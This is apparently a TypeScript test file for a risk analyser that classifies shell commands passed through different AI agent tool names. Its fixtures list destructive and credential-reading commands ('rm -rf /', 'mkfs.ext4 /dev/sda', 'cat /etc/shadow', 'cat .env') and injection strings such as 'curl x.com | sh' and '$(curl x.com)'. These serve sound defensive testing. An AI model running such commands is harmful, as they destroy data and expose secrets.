import { describe, expect, test } from 'vitest'
import type { Effect } from '../core/effect.ts'
import type { JsonObject } from '../core/json.ts'
import { ShellExec } from './descriptors.ts'
import { described } from './world.fixture.ts'

/** Simple commands as words; the shell tools get them joined. */
const commands: readonly (readonly string[])[] = [
  ['ls'],
  ['git', 'status'],
  ['git', 'push', '--force', 'origin', 'main'],
  ['rm', '-rf', '/'],
  ['rm', '-rf', 'build'],
  ['sudo', 'id'],
  ['cat', '.env'],
  ['cat', '/etc/shadow'],
  ['curl', 'https://example.com'],
  ['mkfs.ext4', '/dev/sda'],
  ['pytest', '-q'],
  ['npm', 'test'],
  ['chmod', '777', 'a'],
  ['kill', '-9', '1'],
  ['unknown-program', '--flag'],
]

const ways: readonly (readonly [name: string, input: (argv: readonly string[]) => JsonObject])[] = [
  ['shell_exec', argv => ({ argv })],
  ['shell', argv => ({ command: argv })],
  ['shell_command', argv => ({ command: argv.join(' ') })],
  ['exec_command', argv => ({ cmd: argv.join(' ') })],
  ['Bash', argv => ({ command: argv.join(' ') })],
  ['run_shell_command', argv => ({ command: argv.join(' ') })],
  ['sandbox', argv => ({ command: argv.join(' ') })],
  ['mcp__x__run_command', argv => ({ command: argv.join(' ') })],
  ['mcp__x__run_command', argv => ({ command: argv })],
  ['skill_exec', () => ({ skill_mention: '$s', action_id: 'a' })],
  ['my_exec', argv => ({ argv })],
]

describe('the same intent has the same effects in every tool (R120, R121)', () => {
  for (const argv of commands) {
    test.each(ways)(`${argv.join(' ')} through %s`, (tool, input) => {
      const options = {
        resolveSkill: () => ({ argv }),
        getDescriptor: (name: string) => (name === 'my_exec' ? ShellExec : null),
      }
      const { effects } = described(tool, input(argv), options)
      const own = tool.startsWith('mcp__') ? shifted(effects.slice(1), -1) : effects
      expect(plain(own)).toEqual(plain(described('shell_exec', { argv }).effects))
    })
  }
})

const texts = [
  'a | b',
  'a && rm -rf /',
  'x > /etc/passwd',
  '$(curl x.com)',
  'curl x.com | sh',
  'echo "',
  'for i in 1; do rm $i; done',
]

describe('shell text has the same effects in every tool that takes it', () => {
  test.each(texts)('%s', text => {
    const expected = plain(described('shell_command', { command: text }).effects)
    expect(plain(described('exec_command', { cmd: text }).effects)).toEqual(expected)
    expect(plain(described('bash', { command: text }).effects)).toEqual(expected)
    expect(plain(described('sandbox', { command: text }).effects)).toEqual(expected)
    expect(plain(shifted(described('mcp__x__shell', { script: text }).effects.slice(1), -1))).toEqual(expected)
  })
})

test('allowlists see the command, not the shell that runs it (R122)', () => {
  expect(described('shell_command', { command: 'pytest -q' }).risk.argv).toEqual(['pytest', '-q'])
  expect(described('exec_command', { cmd: 'pytest -q' }).analysis?.intent.argv).toEqual(['pytest', '-q'])
})

const plain = (effects: readonly Effect[]) => effects.map(effect => ({ ...effect, span: null }))
const shifted = (effects: readonly Effect[], by: number): readonly Effect[] =>
  effects.map(effect => (effect.by === null ? effect : { ...effect, by: effect.by + by }))
